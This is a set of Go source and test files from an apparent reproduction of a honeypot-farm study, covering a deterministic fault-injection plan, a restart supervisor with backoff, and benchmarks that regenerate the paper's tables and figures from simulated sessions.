		t.Errorf("nil plan backoff attempt 2 = %v, want %v", d, 4*DefaultBackoffBase)
	}
	if d := none.Backoff(0, 40); d != DefaultBackoffCap {
		t.Errorf("nil plan backoff attempt 40 = %v, want cap %v", d, DefaultBackoffCap)
	}
}

func TestReportAccounting(t *testing.T) {
	p := &Plan{Outages: []Outage{
		{Pot: 1, FirstDay: 0, LastDay: 4},
		{Pot: 1, FirstDay: 2, LastDay: 6},  // overlaps the first window
		{Pot: 3, FirstDay: 8, LastDay: 40}, // clipped to the period
	}}
	r := NewReport(p, 4, 10)
	if r.Pots[1].DownDays != 7 { // union of [0,4] and [2,6]
		t.Errorf("pot 1 down days = %d, want 7", r.Pots[1].DownDays)
	}
	if r.Pots[3].DownDays != 2 { // [8,9] after clipping
		t.Errorf("pot 3 down days = %d, want 2", r.Pots[3].DownDays)
	}
	if r.Pots[0].DownDays != 0 || r.Pots[2].DownDays != 0 {
		t.Error("unaffected pots show downtime")
	}
	r.AddDowntimeDrop(1)
	r.AddDowntimeDrop(1)
	r.AddConnDrop(0)
	r.AddConnDrop(99) // out of range: ignored, not a panic
	if r.TotalDropped() != 3 {
		t.Errorf("total dropped = %d, want 3", r.TotalDropped())
	}
}

// TestPlanJSONRoundTrip pins the scenario-file schema.
func TestPlanJSONRoundTrip(t *testing.T) {
	p := &Plan{
		Seed: 9, RefuseRate: 0.1, ResetRate: 0.05, StallRate: 0.02,
		JitterRate: 0.3, MaxJitterMS: 20, BackoffBaseMS: 5, BackoffCapMS: 500,
		Outages: []Outage{{Pot: 7, FirstDay: 10, LastDay: 20}},
	}
	raw, err := json.Marshal(p)
	if err != nil {
		t.Fatal(err)
	}
	var back Plan
	if err := json.Unmarshal(raw, &back); err != nil {
		t.Fatal(err)
	}
	if back.Seed != p.Seed || back.RefuseRate != p.RefuseRate || len(back.Outages) != 1 ||
		back.Outages[0] != p.Outages[0] || back.BackoffCapMS != 500 {
		t.Errorf("round trip lost fields: %+v", back)
	}
}
