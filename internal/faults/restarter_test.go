package faults

import (
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// TestRestarterRetriesUntilDone: a request loops through RestartRetry
// verdicts, one backoff step apart, until Try reports done.
func TestRestarterRetriesUntilDone(t *testing.T) {
	stop := make(chan struct{})
	var attempts atomic.Int32
	done := make(chan struct{})
	r := NewRestarter(RestarterConfig{
		Backoff: func(id, attempt int) time.Duration { return time.Millisecond },
		Try: func(id, gen, attempt int) RestartOutcome {
			if attempt != int(attempts.Load()) {
				t.Errorf("attempt %d, want %d", attempt, attempts.Load())
			}
			if attempts.Add(1) < 3 {
				return RestartRetry
			}
			close(done)
			return RestartDone
		},
		Stop: stop,
	})
	if !r.Request(4, 1) {
		t.Fatal("Request refused before stop")
	}
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("restart never completed")
	}
	close(stop)
	r.Wait()
	if got := attempts.Load(); got != 3 {
		t.Fatalf("attempts = %d, want 3", got)
	}
}

// TestRestarterHoldFloor: the Hold callback raises the delay floor, so
// an attempt never fires before the hold expires.
func TestRestarterHoldFloor(t *testing.T) {
	stop := make(chan struct{})
	start := time.Now()
	hold := 50 * time.Millisecond
	done := make(chan struct{})
	r := NewRestarter(RestarterConfig{
		Backoff: func(id, attempt int) time.Duration { return time.Millisecond },
		Hold:    func(id int) time.Duration { return hold - time.Since(start) },
		Try: func(id, gen, attempt int) RestartOutcome {
			if elapsed := time.Since(start); elapsed < hold {
				t.Errorf("attempt fired %v into a %v hold", elapsed, hold)
			}
			close(done)
			return RestartDone
		},
		Stop: stop,
	})
	r.Request(0, 1)
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("restart never completed")
	}
	close(stop)
	r.Wait()
}

// TestRestarterGenerationDedup: the Try callback owns the dedup — a
// loop whose generation went stale returns RestartDone without acting,
// and only the newest generation's attempt takes effect.
func TestRestarterGenerationDedup(t *testing.T) {
	stop := make(chan struct{})
	var mu sync.Mutex
	cur := 2 // newest generation
	acted := []int{}
	done := make(chan struct{})
	r := NewRestarter(RestarterConfig{
		Backoff: func(id, attempt int) time.Duration { return time.Millisecond },
		Try: func(id, gen, attempt int) RestartOutcome {
			mu.Lock()
			defer mu.Unlock()
			if gen != cur {
				return RestartDone // stale: a newer takedown owns the unit
			}
			acted = append(acted, gen)
			close(done)
			return RestartDone
		},
		Stop: stop,
	})
	r.Request(7, 1) // stale from the start
	r.Request(7, 2)
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("restart never completed")
	}
	close(stop)
	r.Wait()
	mu.Lock()
	defer mu.Unlock()
	if len(acted) != 1 || acted[0] != 2 {
		t.Fatalf("acted generations = %v, want [2]", acted)
	}
}

// TestRestarterStopJoins: closing Stop ends a loop parked on a long
// backoff, and Wait returns with no goroutines left behind.
func TestRestarterStopJoins(t *testing.T) {
	stop := make(chan struct{})
	r := NewRestarter(RestarterConfig{
		Backoff: func(id, attempt int) time.Duration { return time.Hour },
		Try: func(id, gen, attempt int) RestartOutcome {
			t.Error("Try fired despite hour-long backoff")
			return RestartDone
		},
		Stop: stop,
	})
	r.Request(1, 1)
	time.Sleep(5 * time.Millisecond) // let the loop park on its timer
	close(stop)
	waited := make(chan struct{})
	go func() { r.Wait(); close(waited) }()
	select {
	case <-waited:
	case <-time.After(5 * time.Second):
		t.Fatal("Wait did not return after stop")
	}
	if r.Request(2, 1) {
		t.Error("Request accepted after stop")
	}
}
