// Package faults defines the honeyfarm's deterministic fault model: a
// seeded Plan describing connection-level faults (accept-time refusal,
// mid-session reset, read/write stall, latency jitter) and pot-level
// outage windows, plus the supervisor backoff policy used when a downed
// honeypot is restarted. The paper's farm ran in the real Internet for
// 486 days, where honeypots crash and links flap; per-honeypot activity
// gaps are part of the measured signal, so the reproduction injects the
// same attrition — reproducibly.
//
// Every decision the plan makes is a pure function of (Plan.Seed, a
// stable index) through splitmix64-derived streams, the same mixing
// discipline as the workload's per-shard decoration streams (DESIGN.md
// §8). Two runs with the same seed and plan therefore fault the same
// connections, down the same pots on the same days, and jitter the same
// restart attempts: record-level datasets stay byte-identical, and
// wire-level runs make identical fault decisions (only wall-clock
// timing varies).
//
// The plan is consumed twice:
//
//   - Record level: internal/workload culls planned sessions that a
//     fault would lose (pot down on the session's day, or the connection
//     refused/reset/stalled) and accounts them in a Report, which the
//     analysis layer turns into the per-pot availability table.
//   - Wire level: internal/farm installs the connection faults as the
//     netsim fabric's fault hook and schedules the outage windows
//     through its supervisor, which restarts downed pots with capped
//     exponential backoff and deterministic jitter.
package faults

import (
	"fmt"
	"time"
)

// Defaults for the knobs a zero Plan leaves unset.
const (
	DefaultMaxJitter   = 50 * time.Millisecond
	DefaultBackoffBase = 25 * time.Millisecond
	DefaultBackoffCap  = 2 * time.Second

	// maxResetBytes bounds how deep into a session a reset fault can
	// trigger: resets hit within the first few KB, i.e. during the
	// handshake or early exchange, like real RSTs from flapping links.
	maxResetBytes = 4096
)

// Plan is a seeded, fully deterministic fault schedule. The zero value
// injects nothing; rates are probabilities in [0, 1]. Plans serialize
// as JSON for scenario files and cmd/reproduce -faults.
type Plan struct {
	// Seed drives every derived decision stream. Independent from the
	// generation seed so the same dataset can be faulted differently.
	Seed int64 `json:"seed"`

	// Connection-level fault rates. A connection draws one fault class
	// at most: refusal beats reset beats stall. Jitter is independent
	// and combines with any class except refusal.
	RefuseRate float64 `json:"refuse_rate,omitempty"`
	ResetRate  float64 `json:"reset_rate,omitempty"`
	StallRate  float64 `json:"stall_rate,omitempty"`
	JitterRate float64 `json:"jitter_rate,omitempty"`
	// MaxJitterMS caps the extra connection-establishment latency a
	// jittered connection suffers (default 50ms).
	MaxJitterMS int `json:"max_jitter_ms,omitempty"`

	// Outages are pot-level downtime windows in observation-day terms,
	// inclusive on both ends. The wire-level farm maps days onto wall
	// clock through its DayLength knob.
	Outages []Outage `json:"outages,omitempty"`

	// Supervisor backoff policy: restart attempt k waits
	// min(base<<k, cap) scaled by a deterministic jitter factor in
	// [0.5, 1). Defaults: 25ms base, 2s cap.
	BackoffBaseMS int `json:"backoff_base_ms,omitempty"`
	BackoffCapMS  int `json:"backoff_cap_ms,omitempty"`
}

// Outage is one pot-level downtime window, [FirstDay, LastDay]
// inclusive, in days since the observation epoch.
type Outage struct {
	Pot      int `json:"pot"`
	FirstDay int `json:"first_day"`
	LastDay  int `json:"last_day"`
}

// Days returns the window length in days.
func (o Outage) Days() int { return o.LastDay - o.FirstDay + 1 }

// Validate checks rates and windows. A nil plan is valid (no faults).
func (p *Plan) Validate() error {
	if p == nil {
		return nil
	}
	for name, r := range map[string]float64{
		"refuse_rate": p.RefuseRate, "reset_rate": p.ResetRate,
		"stall_rate": p.StallRate, "jitter_rate": p.JitterRate,
	} {
		if r < 0 || r > 1 {
			return fmt.Errorf("faults: %s = %v out of [0,1]", name, r)
		}
	}
	if sum := p.RefuseRate + p.ResetRate + p.StallRate; sum > 1 {
		return fmt.Errorf("faults: refuse+reset+stall rates sum to %v > 1", sum)
	}
	if p.MaxJitterMS < 0 || p.BackoffBaseMS < 0 || p.BackoffCapMS < 0 {
		return fmt.Errorf("faults: negative duration knob")
	}
	for i, o := range p.Outages {
		if o.Pot < 0 {
			return fmt.Errorf("faults: outage %d: negative pot %d", i, o.Pot)
		}
		if o.LastDay < o.FirstDay || o.FirstDay < 0 {
			return fmt.Errorf("faults: outage %d: bad window [%d, %d]", i, o.FirstDay, o.LastDay)
		}
	}
	return nil
}

// Active reports whether the plan injects anything at all.
func (p *Plan) Active() bool {
	return p != nil && (p.ConnActive() || len(p.Outages) > 0)
}

// ConnActive reports whether any connection-level fault has a nonzero
// rate.
func (p *Plan) ConnActive() bool {
	return p != nil && (p.RefuseRate > 0 || p.ResetRate > 0 || p.StallRate > 0 || p.JitterRate > 0)
}

// dropRate is the probability that a connection fault loses a session
// outright at the record level.
func (p *Plan) dropRate() float64 { return p.RefuseRate + p.ResetRate + p.StallRate }

// MaxJitter returns the jitter cap as a duration.
func (p *Plan) MaxJitter() time.Duration {
	if p == nil || p.MaxJitterMS <= 0 {
		return DefaultMaxJitter
	}
	return time.Duration(p.MaxJitterMS) * time.Millisecond
}

// BackoffBase returns the supervisor's first restart delay.
func (p *Plan) BackoffBase() time.Duration {
	if p == nil || p.BackoffBaseMS <= 0 {
		return DefaultBackoffBase
	}
	return time.Duration(p.BackoffBaseMS) * time.Millisecond
}

// BackoffCap returns the supervisor's maximum restart delay.
func (p *Plan) BackoffCap() time.Duration {
	if p == nil || p.BackoffCapMS <= 0 {
		return DefaultBackoffCap
	}
	return time.Duration(p.BackoffCapMS) * time.Millisecond
}

// ---- derived decision streams ----

// Stream tags separate the plan's decision streams so that, e.g., the
// connection-class draw never correlates with the jitter draw for the
// same index.
const (
	streamConn    uint64 = 0x636f6e6e // "conn": wire connection class
	streamReset   uint64 = 0x72737442 // reset byte budget
	streamJitter  uint64 = 0x6a697474 // jitter gate
	streamJitAmt  uint64 = 0x6a616d74 // jitter amount
	streamSession uint64 = 0x73657373 // record-level session drop
	streamBackoff uint64 = 0x626b6f66 // supervisor restart jitter
)

// mix64 is the splitmix64 finalizer over (seed, stream, index) — the
// same mixing discipline as workload.shardSeed, so neighboring indexes
// get uncorrelated draws.
func mix64(seed int64, stream, i uint64) uint64 {
	z := uint64(seed) + 0x9e3779b97f4a7c15*(i+1) + 0xd1b54a32d192ed03*stream
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return z ^ (z >> 31)
}

// unit maps a stream draw onto [0, 1).
func (p *Plan) unit(stream, i uint64) float64 {
	return float64(mix64(p.Seed, stream, i)>>11) / (1 << 53)
}

// ConnDecision is one connection's fault treatment, decided at dial
// time from the connection's fabric sequence number.
type ConnDecision struct {
	// Refuse rejects the connection at accept time (SYN swallowed).
	Refuse bool
	// ResetAfter, when positive, resets both directions after that many
	// bytes have crossed the link.
	ResetAfter int
	// Stall delivers no data in either direction: reads block until a
	// deadline or close, writes black-hole.
	Stall bool
	// Jitter is extra connection-establishment latency.
	Jitter time.Duration
}

// ConnFault decides the treatment of connection seq. Deterministic: the
// same (plan, seq) always returns the same decision.
func (p *Plan) ConnFault(seq uint64) ConnDecision {
	var d ConnDecision
	if p == nil {
		return d
	}
	u := p.unit(streamConn, seq)
	switch {
	case u < p.RefuseRate:
		d.Refuse = true
		return d // a refused connection never carries jitter
	case u < p.RefuseRate+p.ResetRate:
		d.ResetAfter = 1 + int(p.unit(streamReset, seq)*float64(maxResetBytes))
	case u < p.RefuseRate+p.ResetRate+p.StallRate:
		d.Stall = true
	}
	if p.JitterRate > 0 && p.unit(streamJitter, seq) < p.JitterRate {
		d.Jitter = time.Duration(p.unit(streamJitAmt, seq) * float64(p.MaxJitter()))
	}
	return d
}

// DropsSession reports whether the record-level session at plan index i
// is lost to a connection fault: a refused, reset, or stalled
// connection never delivers a complete session record to the collector.
func (p *Plan) DropsSession(i uint64) bool {
	if p == nil {
		return false
	}
	r := p.dropRate()
	return r > 0 && p.unit(streamSession, i) < r
}

// PotDown reports whether pot is inside an outage window on day.
func (p *Plan) PotDown(pot, day int) bool {
	if p == nil {
		return false
	}
	for _, o := range p.Outages {
		if o.Pot == pot && day >= o.FirstDay && day <= o.LastDay {
			return true
		}
	}
	return false
}

// Backoff returns the delay before restart attempt k of the given pot:
// capped exponential with a deterministic jitter factor in [0.5, 1).
// Safe on a nil plan (defaults, no jitter), so the farm supervisor uses
// one policy whether or not faults are configured.
func (p *Plan) Backoff(pot, attempt int) time.Duration {
	base, ceil := p.BackoffBase(), p.BackoffCap()
	d := base
	for i := 0; i < attempt && d < ceil; i++ {
		d *= 2
	}
	if d > ceil {
		d = ceil
	}
	if p == nil {
		return d
	}
	u := p.unit(streamBackoff, uint64(pot)<<20|uint64(attempt&0xfffff))
	return d/2 + time.Duration(float64(d/2)*u)
}

// ---- outcome accounting ----

// PotReport is one pot's fault accounting.
type PotReport struct {
	// DownDays is the number of observation days the pot spent inside
	// outage windows.
	DownDays int
	// DowntimeDrops counts sessions lost because the pot was down.
	DowntimeDrops int
	// ConnDrops counts sessions lost to connection-level faults.
	ConnDrops int
	// SinkDrops counts finished sessions the collector discarded — the
	// pot was down when the record arrived, or shutdown had passed the
	// drain deadline. Kept separate from the fault-plan columns so
	// durability losses are distinguishable from injected faults.
	SinkDrops int
}

// Report aggregates what a fault plan did to one run: the per-pot
// downtime and drop counters behind the analysis layer's availability
// table. Counters are filled by the consumer (workload cull pass or the
// wire-level farm).
type Report struct {
	// Days is the observation period length the report covers.
	Days int
	// Pots is indexed by honeypot ID.
	Pots []PotReport
}

// NewReport sizes a report for numPots pots over days days and
// pre-computes each pot's DownDays from the plan's outage windows,
// clipped to the observation period. Accepts a nil plan.
func NewReport(p *Plan, numPots, days int) *Report {
	r := &Report{Days: days, Pots: make([]PotReport, numPots)}
	if p == nil {
		return r
	}
	for pot := range r.Pots {
		down := 0
		for day := 0; day < days; day++ {
			if p.PotDown(pot, day) {
				down++
			}
		}
		r.Pots[pot].DownDays = down
	}
	return r
}

// AddDowntimeDrop counts one session lost to an outage window.
func (r *Report) AddDowntimeDrop(pot int) {
	if pot >= 0 && pot < len(r.Pots) {
		r.Pots[pot].DowntimeDrops++
	}
}

// AddConnDrop counts one session lost to a connection fault.
func (r *Report) AddConnDrop(pot int) {
	if pot >= 0 && pot < len(r.Pots) {
		r.Pots[pot].ConnDrops++
	}
}

// AddSinkDrops counts n finished sessions the collector discarded for
// the given pot (down at record time, or past the drain deadline).
func (r *Report) AddSinkDrops(pot, n int) {
	if pot >= 0 && pot < len(r.Pots) {
		r.Pots[pot].SinkDrops += n
	}
}

// TotalDropped sums every drop class over all pots.
func (r *Report) TotalDropped() int {
	total := 0
	for _, p := range r.Pots {
		total += p.DowntimeDrops + p.ConnDrops + p.SinkDrops
	}
	return total
}
