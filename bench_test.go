package honeyfarm

// The benchmark harness: one Benchmark per table and figure in the
// paper's evaluation (see DESIGN.md §4 for the experiment index). Each
// benchmark regenerates its artifact from a shared calibrated dataset
// and renders the same rows/series the paper reports. Run with:
//
//	go test -bench=. -benchmem
//
// Absolute numbers are at the default 1/1000 scale of the paper's 402M
// sessions; the reproduction targets are the shapes (who wins, knees,
// factors), checked in the workload package's calibration tests.

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"runtime"
	"strconv"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/farm"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/lint"
	"honeyfarm/internal/loadgen"
	"honeyfarm/internal/netsim"
	"honeyfarm/internal/query"
	"honeyfarm/internal/replay"
	"honeyfarm/internal/report"
	"honeyfarm/internal/wal"
	"honeyfarm/internal/workload"
)

var (
	benchOnce sync.Once
	benchData *Dataset
)

// benchDataset builds the shared benchmark dataset: 200k sessions
// (≈1/2000 scale) over the full 486-day period on the full 221-pot farm.
func benchDataset(b *testing.B) *Dataset {
	b.Helper()
	benchOnce.Do(func() {
		d, err := Simulate(SimulateConfig{Seed: 1, TotalSessions: 200_000})
		if err != nil {
			b.Fatal(err)
		}
		// Warm the caches shared across benchmarks so per-artifact
		// timings measure the artifact, not the shared aggregation.
		d.PerHoneypot()
		d.HashStats()
		benchData = d
	})
	return benchData
}

func BenchmarkTable1CategoryShares(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		cs := d.CategoryShares()
		report.Table1(io.Discard, cs)
	}
}

func BenchmarkTable2TopPasswords(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		report.TopCounted(io.Discard, "Table 2", "password", d.TopPasswords(10))
	}
}

func BenchmarkTable3TopCommands(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		report.TopCounted(io.Discard, "Table 3", "command", d.TopCommands(20))
	}
}

func benchHashTable(b *testing.B, key analysis.HashSortKey, title string) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		report.HashTable(io.Discard, title, d.HashTable(key, 20), 20)
	}
}

func BenchmarkTable4HashesBySessions(b *testing.B) {
	benchHashTable(b, analysis.BySessions, "Table 4")
}

func BenchmarkTable5HashesByClients(b *testing.B) {
	benchHashTable(b, analysis.ByClientIPs, "Table 5")
}

func BenchmarkTable6HashesByDays(b *testing.B) {
	benchHashTable(b, analysis.ByDays, "Table 6")
}

func BenchmarkFigure2SessionsPerHoneypot(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		per := analysis.ComputePerHoneypot(d.Store, d.NumPots)
		report.RankSeries(io.Discard, "Figure 2", analysis.SessionRank(per), 20)
	}
}

func BenchmarkFigure3TopHoneypotActivity(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		report.BandSeries(io.Discard, "Figure 3", d.DailySeries(-1, 0.05), 30)
	}
}

func BenchmarkFigure4AllHoneypotActivity(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		report.BandSeries(io.Discard, "Figure 4", d.DailySeries(-1, 0), 30)
	}
}

func BenchmarkFigure6CategoryOverTime(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		report.CategoryTimeline(io.Discard, d.CategoryTimeline(), 30)
	}
}

func BenchmarkFigure7DurationECDF(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		durs := d.DurationECDFs()
		for c := analysis.Category(0); c < analysis.NumCategories; c++ {
			report.ECDFSeries(io.Discard, c.String(), durs[c], 10)
		}
	}
}

func BenchmarkFigure8CategoryHoneypotSeries(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for c := analysis.Category(0); c < analysis.NumCategories; c++ {
			report.BandSeries(io.Discard, c.String(), d.DailySeries(int(c), 0), 60)
		}
	}
}

func BenchmarkFigure9TopCategorySeries(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for c := analysis.Category(0); c < analysis.NumCategories; c++ {
			report.BandSeries(io.Discard, c.String(), d.DailySeries(int(c), 0.05), 60)
		}
	}
}

func BenchmarkFigure10ClientCountries(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		report.Countries(io.Discard, "Figure 10", d.ClientCountries(nil), 15)
	}
}

func BenchmarkFigure11DailyClients(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		d.DailyUniqueClients()
	}
}

func BenchmarkFigure12HoneypotsPerClient(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		clients := d.ClientStats(-1)
		report.ECDFSeries(io.Discard, "Figure 12", analysis.HoneypotsPerClientECDF(clients), 15)
	}
}

func BenchmarkFigure13ClientActiveDays(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		clients := d.ClientStats(-1)
		report.ECDFSeries(io.Discard, "Figure 13", analysis.ActiveDaysECDF(clients), 15)
	}
}

func BenchmarkFigure14ClientsPerHoneypot(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		per := analysis.ComputePerHoneypot(d.Store, d.NumPots)
		vals := make([]float64, len(per))
		for j, p := range per {
			vals[j] = float64(p.Clients)
		}
		report.RankSeries(io.Discard, "Figure 14", rankDesc(vals), 20)
	}
}

func BenchmarkFigure15CategoryCombos(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		report.Combos(io.Discard, d.CategoryCombos())
	}
}

func BenchmarkFigure16RegionalDiversity(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		report.RegionalDiversity(io.Discard, "Figure 16", d.RegionalDiversity(nil))
	}
}

func BenchmarkFigure17HashFreshness(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		report.Freshness(io.Discard, d.HashFreshness(), 30)
	}
}

func BenchmarkFigure18HashesPerHoneypot(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		per := analysis.ComputePerHoneypot(d.Store, d.NumPots)
		vals := make([]float64, len(per))
		for j, p := range per {
			vals[j] = float64(p.Hashes)
		}
		report.RankSeries(io.Discard, "Figure 18", rankDesc(vals), 20)
	}
}

func BenchmarkFigure19HashesVsSessions(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		per := analysis.ComputePerHoneypot(d.Store, d.NumPots)
		hashVals := make([]float64, len(per))
		sessVals := make([]float64, len(per))
		for j, p := range per {
			hashVals[j] = float64(p.Hashes)
			sessVals[j] = float64(p.Sessions)
		}
		report.RankSeries(io.Discard, "Figure 19 hashes", rankDesc(hashVals), 20)
		report.RankSeries(io.Discard, "Figure 19 sessions overlay", rankDesc(sessVals), 20)
	}
}

func BenchmarkFigure20ClientsPerHash(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		report.RankSeries(io.Discard, "Figure 20", analysis.HashClientRank(d.HashStats()), 20)
	}
}

func BenchmarkFigure21HashesPerClient(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		report.RankSeries(io.Discard, "Figure 21", analysis.ClientHashRank(d.Store), 20)
	}
}

func BenchmarkFigure22CampaignLengthECDF(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for tag, e := range d.CampaignDurations() {
			report.ECDFSeries(io.Discard, tag, e, 8)
		}
	}
}

// --- Ablation benchmarks (DESIGN.md §7) ---

// BenchmarkAblationGenerateScale measures record-level generation
// throughput across scales (the substitution's cost model).
func BenchmarkAblationGenerateScale(b *testing.B) {
	for _, total := range []int{10_000, 50_000, 200_000} {
		b.Run(sizeName(total), func(b *testing.B) {
			reg := NewRegistry(1)
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if _, err := workload.Generate(workload.Config{
					Seed: int64(i), TotalSessions: total, Registry: reg,
				}); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(total)/b.Elapsed().Seconds()*float64(b.N), "sessions/s")
		})
	}
}

// BenchmarkGenerateWorkers measures the sharded pipeline's scaling: one
// 200k-session generation per worker count. The rows are byte-identical
// in output (see TestWorkersByteIdentical), so they differ only in
// wall-clock; scripts/bench.sh records them into BENCH_<n>.json
// baselines alongside the machine's core count.
func BenchmarkGenerateWorkers(b *testing.B) {
	reg := NewRegistry(1)
	counts := []int{1, 2, 4}
	if p := runtime.GOMAXPROCS(0); p > 4 {
		counts = append(counts, p)
	}
	for _, workers := range counts {
		b.Run(fmt.Sprintf("workers-%d", workers), func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				if _, err := workload.Generate(workload.Config{
					Seed: 1, TotalSessions: 200_000, Registry: reg, Workers: workers,
				}); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(200_000/b.Elapsed().Seconds()*float64(b.N), "sessions/s")
		})
	}
}

// BenchmarkWALAppendRecover measures the durability tax, split into the
// stages that compose it: "encode" is the pure v2 batch codec (no I/O),
// "append" is the end-to-end write path with pipelined group commit
// (the fsync of batch N overlaps the encode of batch N+1), "fsync" is
// the same stream with a blocking Sync after every batch (the
// un-pipelined worst case — the gap between the two rows is what the
// commit pipeline buys), and "recover" is a full scan + replay.
// scripts/bench.sh records all rows into BENCH_<n>.json, and
// scripts/check.sh gates the "append" row against the latest baseline.
func BenchmarkWALAppendRecover(b *testing.B) {
	recs := benchDataset(b).Store.Records()
	if len(recs) > 65536 {
		recs = recs[:65536]
	}
	const batch = 4096
	writeAll := func(dir string, syncEach bool) {
		b.Helper()
		log, _, err := wal.Open(dir, wal.Options{Epoch: DefaultEpoch})
		if err != nil {
			b.Fatal(err)
		}
		for lo := 0; lo < len(recs); lo += batch {
			hi := lo + batch
			if hi > len(recs) {
				hi = len(recs)
			}
			if err := log.AppendTagged(uint64(lo/batch), recs[lo:hi]); err != nil {
				b.Fatal(err)
			}
			if syncEach {
				if err := log.Sync(); err != nil {
					b.Fatal(err)
				}
			}
		}
		if err := log.Close(); err != nil {
			b.Fatal(err)
		}
	}

	b.Run("encode", func(b *testing.B) {
		b.ReportAllocs()
		var buf []byte
		for i := 0; i < b.N; i++ {
			for lo := 0; lo < len(recs); lo += batch {
				hi := lo + batch
				if hi > len(recs) {
					hi = len(recs)
				}
				buf = wal.EncodeBatchFrame(buf[:0], uint64(lo/batch), recs[lo:hi])
			}
		}
		b.ReportMetric(float64(len(recs))/b.Elapsed().Seconds()*float64(b.N), "records/s")
	})
	b.Run("append", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			b.StopTimer()
			dir := b.TempDir()
			b.StartTimer()
			writeAll(dir, false)
		}
		b.ReportMetric(float64(len(recs))/b.Elapsed().Seconds()*float64(b.N), "records/s")
	})
	b.Run("fsync", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			b.StopTimer()
			dir := b.TempDir()
			b.StartTimer()
			writeAll(dir, true)
		}
		b.ReportMetric(float64(len(recs))/b.Elapsed().Seconds()*float64(b.N), "records/s")
	})
	b.Run("recover", func(b *testing.B) {
		dir := b.TempDir()
		writeAll(dir, false)
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			log, rec, err := wal.Open(dir, wal.Options{})
			if err != nil {
				b.Fatal(err)
			}
			if got := rec.Replay().Len(); got != len(recs) {
				b.Fatalf("recovered %d records, want %d", got, len(recs))
			}
			if err := log.Close(); err != nil {
				b.Fatal(err)
			}
		}
		b.ReportMetric(float64(len(recs))/b.Elapsed().Seconds()*float64(b.N), "records/s")
	})
}

func sizeName(n int) string {
	switch {
	case n >= 1_000_000:
		return "1M"
	case n >= 200_000:
		return "200k"
	case n >= 50_000:
		return "50k"
	}
	return "10k"
}

// BenchmarkAblationFreshnessWindows compares Figure 17's three window
// sizes, the paper's memory-vs-freshness tradeoff.
func BenchmarkAblationFreshnessWindows(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		d.HashFreshness()
	}
}

// BenchmarkAblationFullReport renders every artifact end to end.
func BenchmarkAblationFullReport(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		d.WriteReport(io.Discard, ReportOptions{})
	}
}

// BenchmarkExtensionFirstSeenLeaders measures the Section 8.4
// early-detection analysis.
func BenchmarkExtensionFirstSeenLeaders(b *testing.B) {
	d := benchDataset(b)
	b.ReportAllocs()
	b.ResetTimer()
